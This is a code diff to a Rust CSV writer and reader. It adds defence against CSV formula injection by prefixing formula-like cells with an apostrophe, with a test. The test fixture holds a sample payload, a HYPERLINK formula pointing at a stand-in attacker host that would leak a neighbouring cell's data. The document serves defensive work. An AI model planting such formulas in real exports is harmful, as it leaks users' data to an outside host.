@@ -214,14 +214,15 @@ pub fn records(text: &str) -> Result<Vec<Record>, LineError> {
 }
 
 /// Writes a header and rows as CSV with CRLF line ends, quoting only where needed. It starts
-/// with a byte-order mark, so that Excel on Japanese Windows reads it as UTF-8.
+/// with a byte-order mark, so that Excel on Japanese Windows reads it as UTF-8. A cell that a
+/// spreadsheet would run as a formula is written as text (see `FORMULA_STARTS`).
 pub fn write<R, F>(header: &[&str], rows: R) -> String
 where
     R: IntoIterator<Item = F>,
     F: IntoIterator<Item = String>,
 {
     let line = |fields: Vec<String>| {
-        let quoted: Vec<String> = fields.iter().map(|f| quote(f)).collect();
+        let quoted: Vec<String> = fields.iter().map(|f| quote(&as_text(f))).collect();
         quoted.join(",") + "\r\n"
     };
     let mut out = String::from("\u{feff}");
@@ -240,9 +241,34 @@ fn quote(field: &str) -> String {
     }
 }
 
+/// What a spreadsheet takes for the start of a formula (CSV injection: a name such as
+/// `=HYPERLINK(…)` would become a live link in whoever opens the export). Such a cell is
+/// written after a `'`, which Excel shows as text and hides, and read back without it, so
+/// that an export imports back unchanged. Numbers (`-3`, `+81`) are no formulas and stay.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+fn runs_as_formula(field: &str) -> bool {
+    field.starts_with(FORMULA_STARTS) && field.trim().parse::<f64>().is_err()
+}
+
+fn as_text(field: &str) -> std::borrow::Cow<'_, str> {
+    if runs_as_formula(field) {
+        format!("'{field}").into()
+    } else {
+        field.into()
+    }
+}
+
 fn push_record(records: &mut Vec<Record>, line: usize, fields: Vec<String>) {
     let blank = fields.len() == 1 && fields[0].trim().is_empty();
     if !blank {
+        let fields = fields
+            .into_iter()
+            .map(|field| match field.strip_prefix('\'') {
+                Some(formula) if runs_as_formula(formula) => formula.to_string(),
+                _ => field,
+            })
+            .collect();
         records.push(Record { line, fields });
     }
 }
@@ -271,6 +297,30 @@ mod tests {
             fields(back),
             [vec!["a", "b"], vec!["1,2", "say \"hi\"\nbye"]]
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_written() {
+        let cells = [
+            "=HYPERLINK(\"http://evil.example/?\"&B2,\"クリック\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tcmd",
+            "-3",
+            "+81",
+            "'quoted",
+            "name-with-hyphen",
+        ];
+        let row: Vec<String> = cells.iter().map(|s| s.to_string()).collect();
+        let text = write(&["x"], [row.clone()]);
+        let body = text.strip_prefix('\u{feff}').unwrap();
+        assert_eq!(
+            body.lines().nth(1).unwrap(),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"クリック\"\")\",\
+             '+1+1,'-2+3,'@SUM(A1),'\tcmd,-3,+81,'quoted,name-with-hyphen"
+        );
+        assert_eq!(fields(body)[1], row, "read back as it was");
     }
 
     #[test]
